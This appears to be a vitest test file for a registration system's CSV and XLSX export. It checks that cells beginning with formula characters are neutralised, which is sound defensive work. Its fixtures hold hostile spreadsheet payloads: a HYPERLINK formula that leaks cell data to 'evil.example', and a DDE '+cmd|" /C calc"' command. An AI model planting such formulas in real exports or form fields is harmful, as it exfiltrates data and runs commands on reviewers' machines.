import ExcelJS from 'exceljs';
import { parse } from 'csv-parse/sync';
import { eq } from 'drizzle-orm';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { EXPORT_RECORD_COLUMNS, EXPORT_SUMMARY_COLUMNS } from '@form-a/domain/api/exports';
import { exportHeaders } from '@form-a/domain/export-labels';
import { STATUS } from '@form-a/domain/status';
import { registrations, users } from '../src/db/schema';
import { bearer, createTestContext, type TestContext } from './helper';

// CSV injection (ADR 044): a secretary types `=HYPERLINK(…)` into a free-text field and the
// reviewer who opens the export in a spreadsheet runs it. Every cell that begins with a formula
// character must reach the file with a leading apostrophe (PostgreSQL writes the CSV itself with
// COPY), and the XLSX must hold text.

const HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A2,"Click for details")';
/** OWASP's formula starts: =, +, -, @, tab, carriage return */
const FORMULA_START = /^[=+\-@\t\r]/;

/** Every free-text field of the record, each beginning with a formula. */
const HOSTILE = {
  title: HYPERLINK,
  firstName: `${HYPERLINK} first`,
  middleName: `${HYPERLINK} middle`,
  lastName: `${HYPERLINK} last`,
  fatherName: `${HYPERLINK} father`,
  motherName: `${HYPERLINK} mother`,
  spouseName: `${HYPERLINK} spouse`,
  address1: `${HYPERLINK} address1`,
  address2: `${HYPERLINK} address2`,
  city: `${HYPERLINK} city`,
  region: `${HYPERLINK} region`,
  country: `${HYPERLINK} country`,
  zipcode: `${HYPERLINK} zipcode`,
  email: `${HYPERLINK}@example.org`,
  phone: `${HYPERLINK} phone`,
  organization: `${HYPERLINK} organization`,
  occupation: `${HYPERLINK} occupation`,
  qualification: `${HYPERLINK} qualification`,
  designation: `${HYPERLINK} designation`,
  nationality: `${HYPERLINK} nationality`,
  caste: `${HYPERLINK} caste`,
  bloodGroup: `${HYPERLINK} blood`,
  note: `${HYPERLINK} note`,
};

let ctx: TestContext;
/** the Agra secretary: her file holds every free-text field in full, contact too (ADR 057) */
let agra = '';
let approver = '';
let viewer = '';
let recordId = 0;
let otherId = 0;

beforeAll(async () => {
  ctx = await createTestContext();
  const secretary = await ctx.createUser({ role: 'BBRANCHSEC', branch: 'Agra' });
  // the creator's name is a column of the file too
  await ctx.database.db
    .update(users)
    .set({ name: `${HYPERLINK} creator` })
    .where(eq(users.id, secretary.id));
  agra = (await ctx.login(secretary.uid)).token;
  approver = (await ctx.login((await ctx.createUser({ role: 'DBAPPROVER' })).uid)).token;
  viewer = (await ctx.login((await ctx.createUser({ role: 'DATAVIEWER' })).uid)).token;
  const [hostile] = await ctx.database.db
    .insert(registrations)
    .values({
      status: STATUS.SUBMITTED,
      branch: 'Agra',
      dob: '1990-05-01',
      createdBy: secretary.id,
      ...HOSTILE,
    })
    .returning({ id: registrations.id });
  recordId = hostile!.id;
  // the other formula starts, and the values a guard must leave alone
  const [other] = await ctx.database.db
    .insert(registrations)
    .values({
      status: STATUS.SUBMITTED,
      branch: 'Agra',
      dob: '1990-05-01',
      createdBy: secretary.id,
      firstName: '+cmd|" /C calc"!A0',
      middleName: '-2+3',
      lastName: '@SUM(1+1)',
      address1: '\t=1+1',
      address2: '\r=1+1',
      city: 'Agra = Taj',
      phone: '+919876543210',
      note: "'already quoted",
    })
    .returning({ id: registrations.id });
  otherId = other!.id;
});
afterAll(async () => ctx?.close());

async function exportCsv(token: string) {
  const view = token === agra ? 'mine' : 'all';
  const response = await ctx.app.inject({
    url: `/api/registrations/export?view=${view}&format=csv&sort=id&order=asc`,
    headers: bearer(token),
  });
  expect(response.statusCode, response.body).toBe(200);
  // A spreadsheet's own reading of the file: quoted cells, embedded quotes, line breaks.
  const [header, ...rows] = parse(response.body, {
    bom: true,
    relax_column_count: false,
  }) as string[][];
  return { header: header!, rows };
}

describe('a CSV export', () => {
  it('begins no cell with a formula character, for a record whose every free-text field starts with =HYPERLINK(', async () => {
    const { header, rows } = await exportCsv(agra);
    expect(header).toEqual(exportHeaders(EXPORT_RECORD_COLUMNS, 'en'));
    expect(rows).toHaveLength(2);
    for (const row of rows) {
      for (const [index, cell] of row.entries()) {
        expect(cell, `${header[index]}: ${JSON.stringify(cell)}`).not.toMatch(FORMULA_START);
      }
    }
    const hostile = rows.find((row) => row[0] === String(recordId))!;
    // a code no option list knows (these are all free text) reaches the file as it was typed
    const cell = (column: (typeof EXPORT_RECORD_COLUMNS)[number]) =>
      hostile[EXPORT_RECORD_COLUMNS.indexOf(column)];
    // the text is all there, read as text: the apostrophe and nothing else in front
    expect(cell('title')).toBe(`'${HYPERLINK}`);
    expect(cell('note')).toBe(`'${HYPERLINK} note`);
    expect(cell('email')).toBe(`'${HYPERLINK}@example.org`);
    expect(cell('created_by_name')).toBe(`'${HYPERLINK} creator`);
    const guarded = EXPORT_RECORD_COLUMNS.filter((column) => cell(column)?.startsWith("'="));
    // every free-text column of the record, and its creator's name
    expect(guarded).toHaveLength(Object.keys(HOSTILE).length + 1);
  });

  it('guards every OWASP formula start and leaves other text as it was', async () => {
    const { rows } = await exportCsv(agra);
    const other = rows.find((row) => row[0] === String(otherId))!;
    const cell = (column: (typeof EXPORT_RECORD_COLUMNS)[number]) =>
      other[EXPORT_RECORD_COLUMNS.indexOf(column)];
    expect(cell('first_name')).toBe(`'+cmd|" /C calc"!A0`);
    expect(cell('middle_name')).toBe("'-2+3");
    expect(cell('last_name')).toBe("'@SUM(1+1)");
    expect(cell('address1')).toBe("'\t=1+1");
    expect(cell('address2')).toBe("'\r=1+1");
    // a phone number begins with '+': text too (ADR 044)
    expect(cell('phone')).toBe("'+919876543210");
    expect(cell('city')).toBe('Agra = Taj');
    expect(cell('note')).toBe("'already quoted");
    expect(cell('dob')).toBe('1990-05-01');
    expect(cell('id')).toBe(String(otherId));
  });

  it("guards a reviewer's masked contact columns too", async () => {
    const { rows } = await exportCsv(approver);
    const hostile = rows.find((row) => row[0] === String(recordId))!;
    expect(hostile[EXPORT_RECORD_COLUMNS.indexOf('email')]).toBe("'=H••••@example.org");
    for (const row of rows) for (const cell of row) expect(cell).not.toMatch(FORMULA_START);
  });

  it('guards the summary columns a data viewer gets too', async () => {
    const { header, rows } = await exportCsv(viewer);
    expect(header).toEqual(exportHeaders(EXPORT_SUMMARY_COLUMNS, 'en'));
    const hostile = rows.find((row) => row[0] === String(recordId))!;
    expect(hostile[EXPORT_SUMMARY_COLUMNS.indexOf('first_name')]).toBe(`'${HYPERLINK} first`);
    for (const row of rows) for (const cell of row) expect(cell).not.toMatch(FORMULA_START);
  });
});

describe('an XLSX export', () => {
  it('holds the same text as text, never as a formula', async () => {
    const response = await ctx.app.inject({
      url: '/api/registrations/export?view=all&format=xlsx&sort=id&order=asc',
      headers: bearer(approver),
    });
    expect(response.statusCode).toBe(200);
    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.load(response.rawPayload as unknown as ArrayBuffer);
    const sheet = workbook.worksheets[0]!;
    const row = [2, 3]
      .map((n) => sheet.getRow(n))
      .find((candidate) => candidate.getCell(1).value === recordId)!;
    const cell = row.getCell(EXPORT_RECORD_COLUMNS.indexOf('note') + 1);
    // no apostrophe here: a cell of type text is shown as it is, and never calculated
    expect(cell.value).toBe(`${HYPERLINK} note`);
    expect(cell.type).toBe(ExcelJS.ValueType.String);
    row.eachCell((each) => expect(each.type).not.toBe(ExcelJS.ValueType.Formula));
  });
});
